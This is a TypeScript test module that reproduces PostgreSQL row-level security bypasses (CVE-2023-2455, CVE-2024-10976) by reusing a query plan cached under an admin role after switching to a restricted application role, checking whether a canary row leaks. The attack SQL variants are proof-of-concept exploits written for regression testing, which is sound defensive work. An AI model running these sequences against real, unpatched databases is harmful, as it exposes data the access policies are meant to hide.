/** Plans that were made for one role and are used for another: the policies must change with the role. */

import {
  attack,
  canary,
  context,
  control,
  platform,
  schemas,
  type QuotedRoles,
  type Rehearsal,
} from './rehearsal.ts'

/** The reporting role may read the table, the application may not; one function is called by both. */
function reused(defect: string, path: string, body: string): Rehearsal {
  return {
    defect,
    path,
    leak: 'canary',
    script: (roles) => [
      ...schemas(roles),
      ...hiddenTable(roles),
      ...context(
        `CREATE FUNCTION ${platform}.inlined() RETURNS SETOF ${platform}.notes STABLE LANGUAGE sql AS '${body}'`,
        // The function keeps the plan of its query as a prepared statement would, and goes with the transaction.
        `CREATE FUNCTION ${platform}.reused() RETURNS SETOF text LANGUAGE plpgsql AS $$
          BEGIN RETURN QUERY SELECT note FROM ${platform}.inlined(); END $$`,
        `SET LOCAL ROLE ${roles.admin}`,
      ),
      control(`SELECT * FROM ${platform}.reused() AS note`),
      ...context(`SET LOCAL ROLE ${roles.app}`),
      attack(`SELECT * FROM ${platform}.reused() AS note`),
    ],
  }
}

function hiddenTable({ app, admin }: QuotedRoles) {
  return context(
    `CREATE TABLE ${platform}.notes (note text)`,
    `INSERT INTO ${platform}.notes VALUES ('${canary}')`,
    `ALTER TABLE ${platform}.notes ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY`,
    `CREATE POLICY reporting ON ${platform}.notes FOR SELECT TO ${admin} USING (true)`,
    `CREATE POLICY application ON ${platform}.notes FOR SELECT TO ${app} USING (false)`,
    `GRANT SELECT ON ${platform}.notes TO ${app}, ${admin}`,
  )
}

const table = `${platform}.notes`

export const reusedPlans: readonly Rehearsal[] = [
  reused('CVE-2023-2455', 'inlined function', `SELECT * FROM ${table}`),
  reused('CVE-2024-10976', 'WITH', `WITH hidden AS (SELECT * FROM ${table}) SELECT * FROM hidden`),
  reused('CVE-2024-10976', 'subquery', `SELECT * FROM (SELECT * FROM ${table}) AS hidden`),
  reused(
    'CVE-2024-10976',
    'sublink',
    `SELECT hidden.note FROM (SELECT 1) AS one
    CROSS JOIN LATERAL (SELECT (SELECT note FROM ${table}) AS note) AS hidden`,
  ),
]
